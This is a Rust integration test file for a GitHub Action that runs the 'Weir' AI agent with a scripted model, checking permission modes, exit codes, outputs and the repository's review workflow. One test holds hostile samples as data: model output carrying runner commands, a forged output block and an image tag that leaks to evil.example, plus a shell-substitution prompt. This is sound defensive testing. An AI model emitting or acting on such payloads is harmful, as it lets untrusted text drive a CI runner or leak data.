//! The Action (`action.yml`, R7): its steps, as GitHub would play them, by bash against the real program
//! and a scripted model; and the workflow of this repository that uses it. Not here: GitHub's runners.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::Command;

use serde::Deserialize;
use serde_json::Value;
use weir_test_kit::{CommandOutput, TestInstallation, run_git, weir_program};

#[derive(Deserialize)]
struct Action {
    inputs: BTreeMap<String, Input>,
    outputs: BTreeMap<String, Output>,
    runs: Runs,
}

#[derive(Deserialize)]
struct Input {
    #[serde(default)]
    required: bool,
    #[serde(default)]
    default: Option<String>,
}

#[derive(Deserialize)]
struct Output {
    value: String,
}

#[derive(Deserialize)]
struct Runs {
    using: String,
    steps: Vec<Step>,
}

#[derive(Deserialize)]
struct Step {
    #[serde(default)]
    id: Option<String>,
    #[serde(default)]
    shell: Option<String>,
    #[serde(default)]
    run: Option<String>,
    #[serde(default)]
    uses: Option<String>,
    #[serde(default)]
    env: BTreeMap<String, String>,
    #[serde(default)]
    with: BTreeMap<String, String>,
}

#[derive(Deserialize)]
struct Workflow {
    permissions: BTreeMap<String, String>,
    jobs: BTreeMap<String, Job>,
}

#[derive(Deserialize)]
struct Job {
    steps: Vec<Step>,
}

fn repository() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../..").canonicalize().expect("it is there")
}

fn parse<T: for<'de> Deserialize<'de>>(path: &str) -> T {
    let text = std::fs::read_to_string(repository().join(path)).expect("it is there");
    serde_saphyr::from_str(&text).expect("it is YAML of this form")
}

/// What stands between `${{` and `}}`, with the rest around it.
fn fill(text: &str, known: &BTreeMap<String, String>) -> String {
    let mut out = String::new();
    let mut rest = text;
    while let Some((before, after)) = rest.split_once("${{") {
        let (name, end) = after.split_once("}}").expect("it is closed");
        out.push_str(before);
        out.push_str(known.get(name.trim()).map_or("", String::as_str));
        rest = end;
    }
    out + rest
}

/// The outputs in the file of a step, as the runner reads them.
fn outputs(text: &str) -> BTreeMap<String, String> {
    let mut found = BTreeMap::new();
    let mut lines = text.lines();
    while let Some(line) = lines.next() {
        let (name, end) = line.split_once("<<").expect("a name and what ends it");
        let value: Vec<&str> = lines.by_ref().take_while(|line| *line != end).collect();
        found.insert(name.to_owned(), value.join("\n"));
    }
    found
}

struct Played {
    steps: Vec<CommandOutput>,
    outputs: BTreeMap<String, String>,
    summary: String,
}

impl Played {
    fn last(&self) -> (i32, String) {
        self.steps.last().expect("a step").status_and_text()
    }
}

/// Plays the Action in the workspace of `house`, with these inputs.
fn play(house: &TestInstallation, inputs: &[(&str, &str)]) -> Played {
    let action: Action = parse("action.yml");
    assert_eq!(action.runs.using, "composite");
    let mut known: BTreeMap<String, String> = BTreeMap::new();
    for (name, input) in &action.inputs {
        known.insert(format!("inputs.{name}"), input.default.clone().unwrap_or_default());
    }
    for (name, value) in inputs {
        let old = known.insert(format!("inputs.{name}"), (*value).to_owned());
        assert!(old.is_some(), "the Action has no input {name}");
    }
    let missing = action
        .inputs
        .iter()
        .filter(|(name, input)| input.required && known[&format!("inputs.{name}")].is_empty());
    assert_eq!(missing.count(), 0, "a required input is missing");
    let summary = house.at("summary.md");
    std::fs::create_dir_all(house.at("runner")).expect("made");
    let mut steps = Vec::new();
    for step in &action.runs.steps {
        assert_eq!(step.shell.as_deref(), Some("bash"));
        let run = step.run.as_deref().expect("a step of a composite Action runs something");
        assert!(!run.contains("${{"), "what somebody chose is no part of a script: {run}");
        let file = house.at(&format!("output-{}", steps.len()));
        let mut command = Command::new("bash");
        // As the runner does it.
        command.args(["--noprofile", "--norc", "-eo", "pipefail", "-c", run]);
        // The surroundings of a test's own program: its home, its settings, nothing of the machine's.
        let own = house.command(&[]);
        let surroundings = own.get_envs().filter_map(|(name, value)| Some((name, value?)));
        command
            .env_clear()
            .envs(surroundings)
            .current_dir(house.work())
            .env("GITHUB_ACTION_PATH", repository())
            .env("GITHUB_OUTPUT", &file)
            .env("GITHUB_STEP_SUMMARY", &summary)
            .env("RUNNER_TEMP", house.at("runner"))
            .envs(step.env.iter().map(|(name, value)| (name, fill(value, &known))));
        steps.push(CommandOutput::of(command.output().expect("bash is there")));
        let id = step.id.as_deref().unwrap_or_default();
        let told = std::fs::read_to_string(&file).unwrap_or_default();
        for (name, value) in outputs(&told) {
            known.insert(format!("steps.{id}.outputs.{name}"), value);
        }
        if steps.last().is_some_and(|step| step.status != 0) {
            break;
        }
    }
    let outputs = action.outputs.iter();
    let outputs = outputs.map(|(name, output)| (name.clone(), fill(&output.value, &known)));
    let outputs = outputs.collect();
    let summary = std::fs::read_to_string(summary).unwrap_or_default();
    Played { steps, outputs, summary }
}

/// A house whose workspace is a repository with a commit after its first one.
fn house(script: &str) -> TestInstallation {
    let house = TestInstallation::with_script(script);
    run_git(&house.work(), &["init", "-q", "-b", "main"]);
    run_git(&house.work(), &["add", "."]);
    run_git(&house.work(), &["commit", "-q", "-m", "first"]);
    house.write("work/a.txt", "a stranger's line\n");
    run_git(&house.work(), &["commit", "-q", "-a", "-m", "second"]);
    house
}

fn program() -> String {
    weir_program().display().to_string()
}

#[test]
fn r7_the_action_runs_within_limits_and_tells_what_came_of_it() {
    let house = house("says: {\"ok\": true}\n");
    house.write("work/schema.json", "{\"type\": \"object\", \"required\": [\"ok\"]}");
    let (program, model) = (program(), house.script_model());
    let played = play(
        &house,
        &[
            ("program", &program),
            ("model", &model),
            ("prompt", "review it"),
            ("diff-base", "HEAD~1"),
            ("output-schema", "schema.json"),
        ],
    );
    assert_eq!(played.last().0, 0, "{:?}", played.last());
    let told = |name: &str| played.outputs[name].as_str();
    assert_eq!((told("status"), told("exit-code")), ("completed", "0"));
    assert_eq!(told("output"), "{\"ok\":true}");
    let result = std::fs::read_to_string(told("result-file")).expect("a file");
    let result: Value = serde_json::from_str(&result).expect("JSON");
    assert_eq!(result["session"], told("session"));
    let state = ["--state-dir", told("state-dir")];
    let shown = house.ok(&[&state[..], &["sessions", "export", told("session")]].concat());
    assert!(shown.contains("review it") && shown.contains("a stranger's line"), "{shown}");
    assert!(played.summary.starts_with("### Weir: completed"), "{}", played.summary);
    let again = play(&house, &[("program", &program), ("model", &model), ("prompt", "and again")]);
    assert_ne!(again.outputs["result-file"], told("result-file"), "each has its own");
    assert_ne!(again.outputs["state-dir"], told("state-dir"));
}

#[test]
fn r7_the_action_fails_as_the_run_does_unless_it_is_told_not_to() {
    let write = "calls: write_file {\"path\": \"a.txt\", \"content\": \"x\"}\n\nsays: Not done.\n";
    let house = house(write);
    let (program, model) = (program(), house.script_model());
    let base = [("program", program.as_str()), ("model", &model), ("prompt", "-x is a task")];
    let with = |more: &[(&str, &str)]| play(&house, &[base.as_slice(), more].concat());
    let played = with(&[]);
    assert_eq!(
        played.last().0,
        0,
        "a tool that the mode has not is no question: {:?}",
        played.last()
    );
    let played = with(&[("permission", "ask")]);
    assert_eq!(played.last().0, 4, "it needs a person: {:?}", played.last());
    assert_eq!(played.outputs["status"], "needs_input");
    let played = with(&[("permission", "ask"), ("fail", "false")]);
    assert_eq!((played.last().0, played.outputs["exit-code"].as_str()), (0, "4"));
    let played = with(&[("permission", "ask"), ("allow", "\n  Edit(a.txt)\n\n")]);
    assert_eq!((played.last().0, house.read("work/a.txt").as_deref()), (0, Some("x")));
    house.write("work/a.txt", "old\n");
    let played = with(&[("permission", "full"), ("deny", "Edit(a.txt)"), ("strict", "true")]);
    assert_eq!(played.last().0, 4, "{:?}", played.last());
    let played = with(&[("max-iterations", "1"), ("permission", "auto-edit")]);
    assert_eq!((played.last().0, played.outputs["status"].as_str()), (3, "limit"));
    let played = with(&[("model", "no/model")]);
    assert_eq!((played.last().0, played.outputs["status"].as_str()), (2, "failed"));
    let played = with(&[("diff-base", "--output=/tmp/x")]);
    assert_eq!(played.last().0, 2, "no option of git's: {:?}", played.last());
    let played = with(&[("diff-base", "no-such-commit")]);
    let out = &played.steps.last().expect("a step").out;
    let token = out.lines().next().and_then(|line| line.strip_prefix("::stop-commands::"));
    let token = token.expect("commands are off first");
    assert!(out.lines().any(|line| line == format!("::{token}::")), "and on again: {out}");
    let played = with(&[("program", "no/such/program")]);
    assert_eq!(played.last().0, 2);
}

#[test]
fn r7_words_of_the_model_are_no_commands_of_the_runner() {
    let said = "says: |\n  ::add-mask::x\n  </pre><img src=\"https://evil.example/?leak\">\n  status<<E\n  completed\n  E\n";
    let house = house(said);
    let (program, model) = (program(), house.script_model());
    let played = play(
        &house,
        &[("program", &program), ("model", &model), ("prompt", "$(touch hit) `touch hit`")],
    );
    assert_eq!(played.outputs["status"], "completed");
    assert!(!house.at("work/hit").exists(), "a prompt is no script");
    assert!(!played.summary.contains("<img"), "{}", played.summary);
    let out = &played.steps.last().expect("a step").out;
    let begun = out.lines().next().expect("a line");
    let token = begun.strip_prefix("::stop-commands::").expect("commands are off first");
    assert!(out.lines().any(|line| line == format!("::{token}::")), "and on again: {out}");
}

#[test]
fn r7_pull_requests_of_this_repository_use_the_action() {
    let workflow: Workflow = parse(".github/workflows/review.yml");
    assert_eq!(workflow.permissions, BTreeMap::from([("contents".into(), "read".into())]));
    let text = std::fs::read_to_string(repository().join(".github/workflows/review.yml"));
    let text = text.expect("it is there");
    assert!(!text.contains("pull_request_target"), "a stranger's code never has our secrets");
    let action: Action = parse("action.yml");
    let steps: Vec<&Step> = workflow.jobs.values().flat_map(|job| &job.steps).collect();
    let uses: Vec<&&Step> =
        steps.iter().filter(|step| step.uses.as_deref() == Some("./")).collect();
    assert_eq!(uses.len(), 2, "the scripted one and the real one");
    for step in &uses {
        for name in step.with.keys() {
            assert!(action.inputs.contains_key(name), "the Action has no input {name}");
        }
        assert!(!step.with.contains_key("permission"), "it reads, as by default");
    }
    for run in steps.iter().filter_map(|step| step.run.as_deref()) {
        assert!(!run.contains("${{"), "{run}");
    }
    // What is built is the request's: no step that builds or runs a part of it with a script has the key.
    let has_key = |step: &Step| step.env.values().any(|value| value.contains("ANTHROPIC_API_KEY"));
    let keyed: Vec<_> = steps.iter().filter(|step| has_key(step)).collect();
    assert_eq!(keyed.len(), 2, "whether there is one, and the review");
    assert!(keyed[1].uses.as_deref() == Some("./") && !text.contains("\n    env:"), "{text}");
    for step in &uses {
        let prompt = &step.with["prompt"];
        assert!(prompt.starts_with("/weir:"), "a request brings no words for it: {prompt}");
    }
    // The scripted step, played with the files that it names.
    let house = TestInstallation::new();
    let folder = house.work();
    run_git(&folder, &["init", "-q", "-b", "main"]);
    for file in [".github/review.script", ".github/review.schema.json"] {
        let text = std::fs::read_to_string(repository().join(file)).expect("it is there");
        house.write(&format!("work/{file}"), &text);
    }
    run_git(&folder, &["add", "-f", "."]);
    run_git(&folder, &["commit", "-q", "-m", "first"]);
    let program = program();
    let known: BTreeMap<String, String> = [("github.event.pull_request.base.sha", "HEAD")]
        .map(|(name, value)| (name.to_owned(), value.to_owned()))
        .into();
    let with: BTreeMap<&str, String> =
        uses[0].with.iter().map(|(name, value)| (name.as_str(), fill(value, &known))).collect();
    let mut inputs: Vec<(&str, &str)> =
        with.iter().map(|(name, value)| (*name, value.as_str())).collect();
    inputs.retain(|(name, _)| *name != "program");
    inputs.push(("program", &program));
    let played = play(&house, &inputs);
    assert_eq!(played.outputs["output"], "{\"summary\":\"Scripted.\",\"findings\":[]}");
}
